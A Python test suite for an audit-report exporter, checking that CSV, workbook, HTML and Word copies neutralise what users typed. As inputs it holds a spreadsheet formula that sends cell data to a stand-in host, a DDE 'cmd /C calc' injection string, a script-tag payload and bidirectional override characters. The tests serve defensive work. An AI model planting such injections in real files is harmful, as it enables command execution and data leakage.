"""Every working copy of an audit keeps what people typed whole, and none of it can act."""

from __future__ import annotations

import csv
import html
import json
import re
from io import BytesIO, StringIO

import pytest
from docx import Document
from openpyxl import load_workbook
from rich_dossier import WHEN, eventful_dossier, looked_through, rich

from lifaudit.domain.ports import silent
from lifaudit.profiles.library import profile
from lifaudit.reports.content.sheets import sheets_of
from lifaudit.reports.content.source import Source, lead_signatory
from lifaudit.reports.csv import make_csv
from lifaudit.services.exporting import export

ACTS = '=HYPERLINK("http://example.test/?"&A1,"Open")'
URDU = "بچہ محفوظ ہے، اور اسکول جاتا ہے"
TURNED = "The plan \u202ewas kept\u202c and \u2066signed\u2069."
MARKUP = "<script>fetch('/x')</script> & <b>bold</b>"
NUMBER = re.compile(r"-?\d+(\.\d+)?")
FIGURES = ("agreement.csv", "scores.csv")
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def copies(folder, words, dossier=rich):
    """Write every working copy of a small audit in which people typed these words."""
    return export(looked_through(dossier(2, 2, words=words)), folder, WHEN, silent)


def of_sort(paths, suffix):
    return [one for one in paths if one.suffix == suffix]


def read(table):
    return list(csv.reader(StringIO(table.decode("utf-8-sig"))))


def typed_in(paths):
    """Return the rows of the tables in which there is anything that people typed."""
    tables = {one.name: read(one.read_bytes()) for one in of_sort(paths, ".csv")}
    return {name: rows for name, rows in tables.items() if not name.endswith(FIGURES)}


def words_of(path):
    """Return everything a document says, paragraphs and tables alike."""
    document = Document(BytesIO(path.read_bytes()))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join((*(one.text for one in document.paragraphs), *cells))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", " =", "\uff1d"])
def test_no_cell_of_any_table_begins_to_calculate(start):
    whole = eventful_dossier(1, 2, words=f"{start}1+cmd|' /C calc'!A0")
    seen = 0
    for sheet in sheets_of(Source(whole, profile(), (lead_signatory(whole),))):
        for cell in (cell for row in read(make_csv(sheet)) for cell in row):
            assert NUMBER.fullmatch(cell) or not cell.lstrip(" ").startswith(SIGNS), sheet.name
            seen += "cmd|" in cell
    assert seen > 10


def test_no_cell_of_the_workbook_is_a_formula_and_the_words_are_all_there(tmp_path):
    (book,) = of_sort(copies(tmp_path, ACTS), ".xlsx")
    kept = 0
    for page in load_workbook(BytesIO(book.read_bytes())).worksheets:
        for cell in (cell for row in page.iter_rows() for cell in row):
            assert cell.data_type != "f", (page.title, cell.coordinate)
            assert cell.hyperlink is None
            kept += cell.value == f"'{ACTS}"
    assert kept > 20


def test_words_from_right_to_left_stand_whole_in_every_copy(tmp_path):
    paths = copies(tmp_path, URDU)
    for name, rows in typed_in(paths).items():
        assert any(URDU in cell for row in rows for cell in row), name
    (page,), (document,) = of_sort(paths, ".html"), of_sort(paths, ".docx")
    assert URDU in page.read_text("utf-8")
    assert URDU in words_of(document)
    (data,) = of_sort(paths, ".json")
    assert json.loads(data.read_bytes())["learned"]["findings"][0]["what"] == URDU


def test_what_would_turn_the_line_round_is_named_in_every_copy_that_is_read(tmp_path):
    paths = copies(tmp_path, TURNED)
    (page,), (document,) = of_sort(paths, ".html"), of_sort(paths, ".docx")
    read = {page.name: page.read_text("utf-8"), document.name: words_of(document)}
    read |= {name: str(rows) for name, rows in typed_in(paths).items()}
    for name, text in read.items():
        assert "[right-to-left override]was kept" in text, name
        assert not set("\u202e\u202c\u2066\u2069") & set(text), name


def test_markup_that_was_typed_is_words_on_the_page(tmp_path):
    (page,) = of_sort(copies(tmp_path, MARKUP), ".html")
    text = page.read_text("utf-8")
    assert "<script" not in text
    assert "<b>bold" not in text
    assert html.escape(MARKUP, quote=False) in text.replace("&quot;", '"').replace("&#x27;", "'")


def test_a_text_as_long_as_the_field_takes_is_whole_in_every_copy_but_a_cell_of_the_workbook(
    tmp_path,
):
    long = "w" * 9_990 + " at the end"
    paths = copies(tmp_path, long)
    (document,), (book,) = of_sort(paths, ".docx"), of_sort(paths, ".xlsx")
    assert long in words_of(document)
    values = {
        cell.value
        for page in load_workbook(BytesIO(book.read_bytes())).worksheets
        for row in page.iter_rows()
        for cell in row
    }
    assert long in values
    assert all(row[-2] == long for row in typed_in(paths)["DD26-07-grades.csv"][1:])
